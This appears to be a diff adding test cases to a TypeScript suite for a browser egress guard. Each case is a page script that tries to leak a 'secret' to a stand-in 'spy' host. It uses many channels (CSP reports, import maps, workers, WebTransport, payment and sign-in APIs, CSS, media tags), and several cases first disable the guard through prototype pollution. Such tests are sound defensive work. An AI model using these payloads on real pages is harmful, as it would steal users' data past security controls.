@@ -105,6 +105,71 @@ const WAYS: Record<string, (to: string) => { markup?: string; script?: string }>
   'a listed address with more in it': () => ({
     script: `location.href = listed + '?d=' + secret + '#' + secret`,
   }),
+  'a listed address with what stands in the page address': () => ({
+    script: `history.replaceState(null, '', '?d=' + secret); location.href = listed + '?d=' + secret`,
+  }),
+  'a listed address with what the page has led itself to': () => ({
+    script: `if (location.search === '') location.href = '/?d=' + secret; else location.href = listed + '?d=' + secret`,
+  }),
+  'a listed address from a frame that has it': () => ({
+    script: `if (top === window) add('iframe', { src: '/?d=' + secret }); else { open(listed + '?d=' + secret); add('a', { href: listed + '?d=' + secret, target: '_blank' }).click() }`,
+  }),
+  'methods of lists replaced': () => ({
+    script: `Array.prototype.some = () => true; Array.prototype.filter = function () { return this }; location.href = spy + '?d=' + secret`,
+  }),
+  'listeners that are told to stop': () => ({
+    script: `Object.prototype.signal = AbortSignal.abort(); Object.prototype.once = true; const f = add('iframe', {}); const a = f.contentDocument.createElement('a'); a.href = spy + '?d=' + secret; a.target = '_blank'; f.contentDocument.body.append(a); delete Object.prototype.signal; setTimeout(() => a.click(), 50)`,
+  }),
+  'descriptors that break': () => ({
+    script: `Object.prototype.get = () => 1; Object.prototype.attributeFilter = 1; try { add('iframe', {}) } catch {} delete Object.prototype.get; delete Object.prototype.attributeFilter; const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
+  }),
+  'functions of the guard': () => ({
+    script: `const a = add('a', { href: '#', target: '_blank' }); a.addEventListener('click', (e) => { const F = e.preventDefault.constructor; if (F !== Function) F('return Set.prototype')().has = () => true; }); a.click(); setTimeout(() => { location.href = listed + '?d=' + secret }, 200)`,
+  }),
+  'an app that falls back': () => ({
+    script: `location.href = 'intent://send#Intent;scheme=x;S.browser_fallback_url=' + encodeURIComponent(spy + '?d=' + secret) + ';end'`,
+  }),
+  'a window of code': () => ({
+    script: `open('javascript:location="' + spy + '?d=' + secret + '"'); add('a', { href: 'javascript:open("' + spy + '?d=' + secret + '")', target: '_blank' }).click()`,
+  }),
+  'a policy that reports': (to) => ({
+    markup: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${to}">`,
+    script: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: "font-src 'none'; report-uri " + spy + '?d=' + secret })); new Image().src = '/nao.png'`,
+  }),
+  'a map of modules': () => ({
+    script: `add('script', { type: 'importmap', textContent: JSON.stringify({ imports: { x: spy + '?d=' + secret } }) }); import('x').catch(() => {})`,
+  }),
+  'a shared worker': () => ({
+    script: `new SharedWorker('data:text/javascript,' + encodeURIComponent("fetch('" + spy + '?d=' + secret + "', { mode: 'no-cors' })"))`,
+  }),
+  'web transport': () => ({ script: `new WebTransport(spy.replace('http:', 'https:') + '?d=' + secret)` }),
+  'a payment': () => ({
+    script: `new PaymentRequest([{ supportedMethods: spy + '?d=' + secret }], { total: { label: 'x', amount: { currency: 'BRL', value: '1' } } }).canMakePayment().catch(() => {})`,
+  }),
+  'a sign-in of others': () => ({
+    script: `navigator.credentials.get({ identity: { providers: [{ configURL: spy + '?d=' + secret, clientId: 'x' }] } }).catch(() => {})`,
+  }),
+  'a manifest': () => ({
+    script: `document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: spy + '?d=' + secret }))`,
+  }),
+  'a drawing of others': () => ({
+    script: `document.body.insertAdjacentHTML('beforeend', '<svg><use href="' + spy + '?d=' + secret + '#a"/><image href="' + spy + '?d=' + secret + '"/></svg>')`,
+  }),
+  'a form in a root': () => ({
+    script: `const r = add('div', {}).attachShadow({ mode: 'closed' }); r.innerHTML = '<form action="' + spy + '?d=' + secret + '" target=_blank><button>x</button></form>'; r.querySelector('button').click()`,
+  }),
+  'a button with an address': () => ({
+    script: `const f = add('form', {}); const b = Object.assign(document.createElement('button'), { formAction: spy + '?d=' + secret, formTarget: '_blank' }); f.append(b); b.click()`,
+  }),
+  'a style of the typed': () => ({
+    script: `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import url(' + spy + '?d=' + secret + '); body { cursor: url(' + spy + '?d=' + secret + '), auto; list-style-image: url(' + spy + '?d=' + secret + ') } @font-face { font-family: z; src: url(' + spy + '?d=' + secret + ') } p { font-family: z }' })); add('p', { textContent: 'x' })`,
+  }),
+  'an icon': () => ({
+    script: `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: spy + '?d=' + secret }))`,
+  }),
+  'a notification of data': () => ({
+    script: `document.body.insertAdjacentHTML('beforeend', '<video poster="' + spy + '?d=' + secret + '" src="' + spy + '?d=' + secret + '" autoplay></video><audio src="' + spy + '?d=' + secret + '"></audio><embed src="' + spy + '?d=' + secret + '"><object data="' + spy + '?d=' + secret + '"></object>')`,
+  }),
   'a link that is pressed by script': () => ({ script: `add('a', { href: spy + '?d=' + secret }).click()` }),
   'a link for a new window': () => ({
     script: `add('a', { href: spy + '?d=' + secret, target: '_blank' }).click()`,
